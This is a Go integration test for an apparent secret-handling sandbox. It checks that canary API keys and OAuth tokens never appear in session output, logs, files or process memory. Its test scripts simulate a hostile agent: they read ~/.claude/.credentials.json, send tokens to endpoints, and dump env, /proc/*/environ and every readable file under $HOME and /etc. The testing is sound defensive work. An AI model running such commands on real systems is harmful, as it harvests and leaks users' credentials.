package realtest

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mojoup/mojoup-node/pkg/secrets/signin/signintest"
)

// A wayOut is one place of a request that a key goes out in.
type wayOut struct {
	name, key string
	// curl are arguments, in which $K is what the session has of the key.
	curl string
	// set are those of `secret set`, where the binding of every key will not do.
	set []string
}

// waysOut are all that a binding can name; how the key of each is kept differs
// as well, and so does the protocol.
func waysOut() []wayOut {
	return []wayOut{
		{"bearer", "STORE_KEY", `-H "Authorization: Bearer $K"`, nil},
		{"bearer-http1", "COMMAND_KEY", `--http1.1 --compressed -H "Authorization: Bearer $K"`, nil},
		{"token", "ENV_KEY", `-H "Authorization: token $K"`, nil},
		{"basic", "ENV_KEY", `-u "x-access-token:$K"`, nil},
		{"basic-http1", "FILE_KEY", `--http1.1 -u "$K:"`, nil},
		{"x-api-key", "FILE_KEY", `-H "X-Api-Key: $K"`, nil},
		{"x-goog-api-key", "COMMAND_KEY", `--http1.1 -H "X-Goog-Api-Key: $K"`, nil},
		{"bare", "BARE_KEY", `-H "Authorization: $K"`, []string{"--header", "Authorization: bare"}},
		{"query", "QUERY_KEY", `-G --data-urlencode "key=$K"`, []string{"--query", "key", "--path", "/query/**"}},
		{"body/json", "BODY_KEY", `-H "Content-Type: application/json" -d "{\"client_secret\": \"$K\"}"`, []string{"--body", "client_secret", "--path", "/body/**"}},
		{"body/form", "BODY_KEY", `--http1.1 -d "client_secret=$K"`, nil},
	}
}

// answers are the ways in which a server says a key back that no body of an
// ordinary answer holds.
var answers = []string{"status-line", "error", "websocket", "fragments"}

// An echoer says every key that it is given back, in every way that there is.
type echoer struct {
	mu sync.Mutex
	// mu guards what follows.
	keys []string
	got  map[string]string // the key that came, by the path's first words
}

// keyOf is the key that stands somewhere in a request.
func (e *echoer) keyOf(r *http.Request) string {
	dump, err := httputil.DumpRequest(r, true)
	if err != nil {
		return ""
	}
	user, password, _ := r.BasicAuth()
	said := string(dump) + user + " " + password
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, key := range e.keys {
		if strings.Contains(said, key) {
			return key
		}
	}
	return ""
}

// know makes a key one that is said back.
func (e *echoer) know(key string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !slices.Contains(e.keys, key) {
		e.keys = append(e.keys, key)
	}
}

// took is the key that came by a way.
func (e *echoer) took(way string) string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.got[way]
}

func (e *echoer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	key, way := e.keyOf(r), strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/"), "/x")
	e.mu.Lock()
	e.got[way] = key
	e.mu.Unlock()
	encoded := base64.StdEncoding.EncodeToString([]byte("user:" + key))
	switch way {
	case "status-line":
		raw(w, "HTTP/1.1 200 Your key is "+key+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
	case "websocket":
		raw(w, switching, frame(0x81, "whole "+key+" and "+encoded), frame(0x88, ""))
	case "fragments":
		raw(w, switching, frame(0x01, "cut "+key[:len(key)/2]), frame(0x89, "ping"), frame(0x80, key[len(key)/2:]+" end"), frame(0x88, ""))
	default:
		w.Header().Set("Trailer", "X-Trailer")
		w.Header().Set("X-Echo", key+" "+encoded+" "+url.QueryEscape(key))
		if way == "error" {
			w.WriteHeader(http.StatusBadGateway)
		}
		fmt.Fprintf(w, "you said %s, %s, %s\n", key, url.QueryEscape(key), encoded)
		_ = http.NewResponseController(w).Flush() // so that over HTTP/2 as well a trailer may follow
		w.Header().Set("X-Trailer", "at last "+key+" "+encoded)
	}
}

const switching = "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"

// frame is one of a WebSocket's, shorter than 126 bytes or than 64 KiB.
func frame(first byte, text string) string {
	if len(text) < 126 {
		return string([]byte{first, byte(len(text))}) + text
	}
	return string([]byte{first, 126, byte(len(text) >> 8), byte(len(text))}) + text
}

// raw answers what no [http.ResponseWriter] would, and closes.
func raw(w http.ResponseWriter, pieces ...string) {
	h, ok := w.(http.Hijacker)
	if !ok {
		http.Error(w, "wanted HTTP/1.1", http.StatusHTTPVersionNotSupported)
		return
	}
	conn, brw, err := h.Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	for _, p := range pieces {
		_, _ = brw.WriteString(p)
		_ = brw.Flush()
	}
}

// A hunt is a rig with keys that are looked for in all that its sessions see and
// in all that is written.
type hunt struct {
	*rig
	wanted
	echo, stray *echoer // what no key is bound to is asked in vain
	forge       *forge
	tokens      *signintest.Server // or nil where no sign-in goes inside
	kept        string             // what the person has themselves, and is not searched
	host, other string             // of the two servers
	own         []string
	said        strings.Builder // by what the node was asked
}

// planted is a key that no secret is, for searches to find. No alphabet is in it,
// since programs hold those.
const planted = "sk-planted-3f9Qz-Canary-x7Tq2LmVw8Rk4Ns6Yb1Hd5JcPg0"

func newHunt(t *testing.T, who somebody) *hunt {
	programs(t, "curl", "git")
	h := &hunt{wanted: wantedOf(canaries), echo: &echoer{got: map[string]string{}}, stray: &echoer{got: map[string]string{}}, own: []string{"MY_OWN=" + canaries["ENV_KEY"]}}
	h.wanted["PLANTED"] = forms(planted)
	for _, key := range canaries {
		h.echo.keys = append(h.echo.keys, key)
	}
	h.kept = t.TempDir()
	for _, dir := range []string{h.kept, filepath.Dir(h.kept)} {
		if err := os.Chmod(dir, 0o711); err != nil {
			t.Fatal(err)
		}
	}
	ip := ownAddress()
	hosts := map[string]string{webName: "127.0.0.1", plainName: "127.0.0.1", gitName: "127.0.0.1"}
	for _, name := range vendorHosts {
		hosts[name] = ip
	}
	h.rig = newRig(t, who, hosts, func(r *rig) { r.env = append(r.env, "CLAUDE_CONFIG_DIR="+filepath.Join(h.kept, "claude")) })
	h.host = webName + ":" + h.serve("127.0.0.1:0", h.echo, webName)
	h.other = plainName + ":" + h.serve("127.0.0.1:0", h.stray, plainName)
	h.forge = newForge(h.rig, "acme/widget.git")
	h.signIn(ip + ":443")
	h.secrets()
	return h
}

// keep writes down something of the person's.
func (h *hunt) keep(name, text string, mode os.FileMode) string {
	h.t.Helper()
	file := filepath.Join(h.kept, name)
	h.must(os.MkdirAll(filepath.Dir(file), 0o700))
	h.must(os.WriteFile(file, []byte(text), mode))
	for _, f := range []string{filepath.Dir(file), file} {
		if f != h.kept {
			h.must(os.Lchown(f, h.who.uid, h.who.gid))
		}
	}
	return file
}

// signIn signs the person in to a tool with a token that has expired, so that
// the node has it renewed: both tokens of before and both of after are keys. It
// does nothing where the port of the tool's services is not this user's.
func (h *hunt) signIn(address string) {
	h.t.Helper()
	ln, err := net.Listen("tcp", address)
	if err != nil && os.Getuid() != 0 {
		h.t.Logf("no sign-in goes inside: wanted a server on %s, found %v", address, err)
		return
	}
	h.must(err)
	h.must(ln.Close())
	tokens := signintest.Start(h.t, time.Now, time.Minute)
	access, refresh := tokens.SignIn("me")
	tokens.Life(8 * time.Hour)
	h.keep("claude/.credentials.json", toolSignIns()[0].text(access, refresh, time.Now().Add(-time.Minute)), 0o600)
	h.wantSignIn()
	h.serve(address, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasSuffix(r.URL.Path, "/oauth/token") {
			h.echo.know(tokens.Access("me"))
			h.echo.ServeHTTP(w, r)
			return
		}
		tokens.ServeHTTP(w, r)
	}), vendorHosts...)
	h.tokens = tokens
}

// wantSignIn makes the tokens that the person's tool has now ones to be searched
// for, beside those that it had.
func (h *hunt) wantSignIn() {
	h.t.Helper()
	text, err := os.ReadFile(filepath.Join(h.kept, "claude", ".credentials.json"))
	h.must(err)
	var file struct {
		ClaudeAiOauth struct{ AccessToken, RefreshToken string }
	}
	h.must(json.Unmarshal(text, &file))
	for _, token := range []string{file.ClaudeAiOauth.AccessToken, file.ClaudeAiOauth.RefreshToken} {
		h.wanted[token[:12]+"…"+token[len(token)-12:]] = forms(token)
	}
}

// secrets sets each key, kept in a way of its own.
func (h *hunt) secrets() {
	h.t.Helper()
	script := h.keep("command", "#!/bin/sh\necho "+canaries["COMMAND_KEY"]+"\n", 0o700)
	how := map[string][]string{
		"STORE_KEY": nil, "ENV_KEY": {"--env", "MY_OWN"}, "COMMAND_KEY": {"--command", script},
		"FILE_KEY": {"--file", h.keep("key", canaries["FILE_KEY"]+"\n", 0o600)},
	}
	for _, way := range waysOut() {
		if way.set != nil {
			how[way.key] = way.set
		}
	}
	for name, args := range how {
		out, err := h.command(canaries[name]+"\n", nil, append([]string{"secret", "set", name, "--host", h.host}, args...)...)
		if err != nil {
			h.t.Fatalf("setting %s: %v %s", name, err, out)
		}
		h.said.WriteString(out)
	}
	for _, key := range []string{canaries["STORE_KEY"] + " with a blank", canaries["STORE_KEY"] + "\nsecond line"} {
		out, err := h.command(key, nil, "secret", "set", "BAD", "--host", h.host)
		if err == nil {
			h.t.Errorf("taken: %s", out)
		}
		h.said.WriteString(out)
	}
}

func (h *hunt) policy() string {
	_, port, _ := strings.Cut(h.host, ":")
	_, other, _ := strings.Cut(h.other, ":")
	names := append(slices.Sorted(maps.Keys(canaries)), "GIT_TOKEN", "NOT_THERE?")
	signIns := []string{}
	if h.tokens != nil {
		signIns = append(signIns, "claude")
	}
	return h.write("keys.json", jsonText(map[string]any{"version": 1, "secrets": names, "signIns": signIns, "network": map[string]any{"rules": []any{
		map[string]any{"hosts": []string{webName, plainName}, "ports": json.RawMessage("[" + port + "," + other + "]"), "addresses": []string{"127.0.0.0/8"}, "methods": []string{"GET", "POST"}},
		map[string]any{"hosts": append([]string{gitName}, vendorHosts...), "ports": json.RawMessage("[443," + h.forge.port + "]"), "addresses": []string{"127.0.0.0/8"}},
	}}}), 0o644)
}

// script does what a hostile agent would: it sends each key on each of its ways,
// has it said back, and shows everything that it can read.
func (h *hunt) script() string {
	var b strings.Builder
	b.WriteString("curl() { command curl -sS -i -N --max-time 60 \"$@\" 2>&1 | cat; echo; }\n")
	for _, w := range waysOut() {
		fmt.Fprintf(&b, "K=$%s; curl %s https://%s/%s/x\n", w.key, w.curl, h.host, w.name)
	}
	for _, name := range answers {
		fmt.Fprintf(&b, "curl --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H \"Authorization: Bearer $STORE_KEY\" https://%s/%s/x\n", h.host, name)
	}
	fmt.Fprintf(&b, `for K in "$STORE_KEY" "$ENV_KEY" "$FILE_KEY" "$COMMAND_KEY"; do
	curl -H "X-Other: $K" https://%[1]s/wrong-place/x
	curl -H "Authorization: Bearer $K" https://%[2]s/wrong-host/x
	curl -u "x:$K" https://denied.realtest.example/denied
done
git clone -q %[3]s /tmp/clone && echo cloned
printf 'protocol=https\nhost=%[4]s\n\n' | git credential fill
T=$(sed -n 's/.*"accessToken": *"\([^"]*\)".*/\1/p' ~/.claude/.credentials.json)
curl -H "Authorization: Bearer $T" https://api.anthropic.com/sign-in/x
curl -d "grant_type=refresh_token&refresh_token=$T" https://platform.claude.com/v1/oauth/token
`, h.host, h.other, h.forge.url("acme/widget.git"), gitName+":"+h.forge.port)
	return b.String() + showAll
}

// showAll is what an agent can read, and waits until it was looked at itself.
const showAll = `
env
cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
find "$HOME" /tmp /run /etc /var/tmp "$PWD" -type f -readable -size -4096k -exec cat {} + 2>/dev/null
cat /proc/self/mountinfo /proc/self/maps
: >seen
while [ ! -e go-on ]; do sleep 0.05; done
`

// plantScript puts a key wherever a session can.
const plantScript = `
curl -sS --max-time 60 https://denied.realtest.example/$1
for f in "$HOME/p" /tmp/p planted; do echo "$1" >$f; done
echo "shown: $1"
` + showAll

// runs has a session run a script, looks while it lives, once it has seen all,
// and answers what it said.
func (h *hunt) runs(args []string, look func(id string)) string {
	h.t.Helper()
	var said string
	ended := make(chan error, 1)
	go func() {
		var err error
		said, err = h.command("", h.own, append([]string{"run", "--policy", h.policy()}, args...)...)
		ended <- err
	}()
	beat := time.NewTicker(20 * time.Millisecond)
	defer beat.Stop()
	for {
		select {
		case err := <-ended:
			h.t.Fatalf("%v: it ended before it was looked at: %v\n%s", args, err, said)
		case <-beat.C:
		}
		if _, err := os.Stat(filepath.Join(h.repo, "seen")); err != nil {
			continue
		}
		look(h.live())
		h.must(os.WriteFile(filepath.Join(h.repo, "go-on"), nil, 0o644))
		if err := <-ended; err != nil {
			h.t.Errorf("%v: %v\n%s", args, err, said)
		}
		for _, name := range []string{"seen", "go-on"} {
			h.must(os.Remove(filepath.Join(h.repo, name)))
		}
		return said
	}
}

// live is the id of the session that lives.
func (h *hunt) live() string {
	h.t.Helper()
	out, err := h.command("", nil, "session", "list", "--json")
	h.must(err)
	var list []struct{ ID string }
	if err := json.Unmarshal([]byte(out), &list); err != nil || len(list) != 1 {
		h.t.Fatalf("%d sessions live: %v %s", len(list), err, out)
	}
	return list[0].ID
}

// A found is what was found, by where it was searched for.
type found map[string][]string

func (f found) add(where string, names []string) { f[where] = append(f[where], names...) }

// files searches all that the node writes, and the repository, by the names in
// the rig's directory.
func (h *hunt) files(f found) {
	for _, one := range h.below(h.t, h.dir) {
		where, _, _ := strings.Cut(strings.TrimPrefix(one, h.dir+"/"), "/")
		where, _, _ = strings.Cut(where, ":")
		f.add(where, []string{one})
	}
}

// ask searches what the node answers.
func (h *hunt) ask(f found, where string, args ...string) {
	h.t.Helper()
	out, err := h.command("", h.own, args...)
	if err != nil {
		h.t.Errorf("%v: %v %s", args, err, out)
	}
	f.add(where, h.in([]byte(out)))
}

// told searches what the node says of a session that has ended.
func (h *hunt) told(f found, id string, recorded bool) {
	h.t.Helper()
	h.ask(f, "past sessions", "session", "list", "--past", "--json")
	for _, what := range []string{"show", "logs"} {
		h.ask(f, "session "+what, "session", what, id)
		h.ask(f, "session "+what+" --json", "session", what, id, "--json")
	}
	if recorded {
		h.ask(f, "session logs --terminal", "session", "logs", "--terminal", id)
	}
}

// toldAlways searches what the node says of itself and of the person.
func (h *hunt) toldAlways(f found) {
	h.t.Helper()
	for _, args := range [][]string{{"status", "--json"}, {"secret", "list"}, {"secret", "list", "--json"}, {"signin", "status", "--json"}} {
		h.ask(f, args[0], args...)
	}
	f.add("secret set", h.in([]byte(h.said.String())))
}

// alive searches where there is something only while a session lives.
func (h *hunt) alive(f found, id string) {
	h.t.Helper()
	h.ask(f, "session list", "session", "list")
	url, port := h.page()
	res := h.outside("curl", "-sS", "--fail", "--resolve", "mojoup-node.localhost:"+port+":127.0.0.1", url).succeed()
	h.mention(res, id)
	f.add("page", h.in([]byte(res.stdout)))
	if h.double == nil {
		h.processes(f)
		return
	}
	for where, text := range h.double.Written(h.t) {
		where, _, _ = strings.Cut(where, " ")
		f.add("docker: "+where, h.in(text))
	}
}

// processes searches environment, command line and memory of all that runs
// inside: what shares its process ids with a process that has this rig's mark.
func (h *hunt) processes(f found) {
	h.t.Helper()
	inside := map[string]bool{}
	ours, err := os.Readlink("/proc/self/ns/pid")
	h.must(err)
	all, err := filepath.Glob("/proc/[0-9]*")
	h.must(err)
	for _, dir := range all {
		line, _ := os.ReadFile(filepath.Join(dir, "cmdline"))
		if ns, err := os.Readlink(filepath.Join(dir, "ns/pid")); err == nil && ns != ours && bytes.Contains(line, []byte(h.dir)) {
			inside[ns] = true
		}
	}
	processes, read := 0, 0
	for _, dir := range all {
		if ns, err := os.Readlink(filepath.Join(dir, "ns/pid")); err != nil || !inside[ns] {
			continue
		}
		processes++
		for _, name := range []string{"environ", "cmdline"} {
			text, _ := os.ReadFile(filepath.Join(dir, name))
			f.add(name, h.in(text))
		}
		text := memoryOf(dir)
		read += len(text)
		f.add("memory", h.in(text))
	}
	if len(inside) != 1 || processes < 2 || read == 0 {
		h.t.Errorf("searched %d bytes of %d processes in %d sessions", read, processes, len(inside))
	}
}

// memoryOf is that of a process, as far as it can be read.
func memoryOf(dir string) (text []byte) {
	maps, err := os.ReadFile(filepath.Join(dir, "maps"))
	if err != nil {
		return nil
	}
	mem, err := os.Open(filepath.Join(dir, "mem"))
	if err != nil {
		return nil
	}
	defer mem.Close()
	for line := range strings.Lines(string(maps)) {
		var from, to uint64
		var rights string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &rights); n != 3 || rights[:2] != "rw" || to-from > 64<<20 {
			continue // what nobody can write holds no key but a program's own
		}
		piece := make([]byte, to-from)
		n, _ := mem.ReadAt(piece, int64(from)) // #nosec G115: an address of user space
		text = append(text, piece[:n]...)
	}
	return text
}

// TestT2_CanaryIsNowhereInside takes keys through every path that they go,
// then searches for them in all that a session saw and in all that was written,
// while it lives and when it has ended.
func TestT2_CanaryIsNowhereInside(t *testing.T) {
	everywhere(t, func(t *testing.T, who somebody) {
		h := newHunt(t, who)
		runs := [][]string{{"--no-tty"}, {"--tty", "--record-terminal"}}
		if h.double != nil {
			runs = runs[:1] // a terminal is recorded in the node
		}
		for _, how := range runs {
			f, id := found{}, ""
			said := h.runs(append(slices.Clone(how), "--", "sh", "-c", h.script(), h.dir), func(live string) {
				id = live
				if h.tokens != nil {
					h.wantSignIn()
				}
				h.alive(f, id)
				h.files(f)
			})
			h.told(f, id, h.double == nil && how[0] == "--tty")
			h.files(f)
			f.add("what it saw", h.in([]byte(said)))
			h.toldAlways(f)
			for where, names := range f {
				if len(names) > 0 {
					t.Errorf("%v: %s: %v", how, where, names)
				}
			}
			h.wentOut(said)
			if t.Failed() {
				t.Logf("%v said\n%.12000s", how, said) // and then all that can be read
			}
		}
		h.finds(runs[len(runs)-1])
	}, both...)
}

// wentOut fails unless each key arrived by each of its ways and was said back,
// and none arrived elsewhere.
func (h *hunt) wentOut(said string) {
	h.t.Helper()
	want := map[string]string{}
	for _, w := range waysOut() {
		want[w.name] = canaries[w.key]
	}
	for _, name := range answers {
		want[name] = canaries["STORE_KEY"]
	}
	if h.tokens != nil {
		want["sign-in"] = h.tokens.Access("me")
		if spent, reused := h.tokens.Counts(); spent != 1 || reused > 0 {
			h.t.Errorf("the sign-in was renewed %d times, and %d times with a token of before", spent, reused)
		}
	}
	for name, key := range want {
		if got := h.echo.took(name); got != key {
			h.t.Errorf("%s: %q arrived, want %q", name, got, key)
		}
	}
	h.stray.mu.Lock()
	defer h.stray.mu.Unlock()
	if got := h.stray.got; len(got) > 0 {
		h.t.Errorf("requests with a stand-in reached another host: %v", got)
	}
	h.forge.mu.Lock()
	defer h.forge.mu.Unlock()
	if !h.forge.seen[canaries["ENV_KEY"]] || len(h.forge.seen) > 2 { // and none, the first time
		h.t.Errorf("git sent %d passwords", len(h.forge.seen))
	}
	for _, want := range []string{
		"you said sk-ant-api03-", "you said ghp_", "you said AIza", "you said glpat-", "HTTP/1.1 502 ", "at last sk-ant-api03-", "Your key is sk-ant-api03-", "whole sk-ant-api03-", "cut sk-ant-api03-", " end", "cloned", "password=ghp_",
		"without the secret NOT_THERE", "goes elsewhere there", "whose key goes to " + h.host + " only", "denied.realtest.example",
	} {
		if !strings.Contains(said, want) {
			h.t.Errorf("%q is not in what was said", want)
		}
	}
}

// finds fails unless each search finds a key that a session was given, and in
// files, where the node writes none, one that was put there.
func (h *hunt) finds(how []string) {
	h.t.Helper()
	f, id := found{}, ""
	said := h.runs(append(slices.Clone(how), "--env", "PLANTED="+planted, "--", "sh", "-c", plantScript, h.dir, planted), func(live string) {
		id = live
		log, err := os.OpenFile(h.log, os.O_WRONLY|os.O_APPEND, 0)
		h.must(err)
		_, err = log.WriteString(planted + "\n")
		h.must(errors.Join(err, log.Close()))
		h.write("run/planted", planted, 0o600)
		if h.double != nil {
			h.double.Plant(h.t, "x"+planted)
		}
		h.alive(f, id)
		h.files(f)
	})
	h.told(f, id, h.double == nil)
	f.add("what it saw", h.in([]byte(said)))
	places := []string{"what it saw", "page", "repo", "state", "run", "node.log", "session list", "past sessions", "session show", "session show --json", "session logs", "session logs --json"}
	if h.double == nil {
		places = append(places, "environ", "cmdline", "memory", "session logs --terminal")
	} else {
		places = append(places, "docker: files")
	}
	for _, where := range places {
		if !slices.ContainsFunc(f[where], func(s string) bool { return strings.HasSuffix(s, "PLANTED") }) {
			h.t.Errorf("what is planted in %s is not found: %v", where, f[where])
		}
	}
	for _, form := range forms(canaries["FILE_KEY"]) {
		file := h.write("state/planted", "x"+string(form), 0o600)
		if len(h.below(h.t, file)) == 0 {
			h.t.Errorf("%s is not found", form)
		}
	}
}
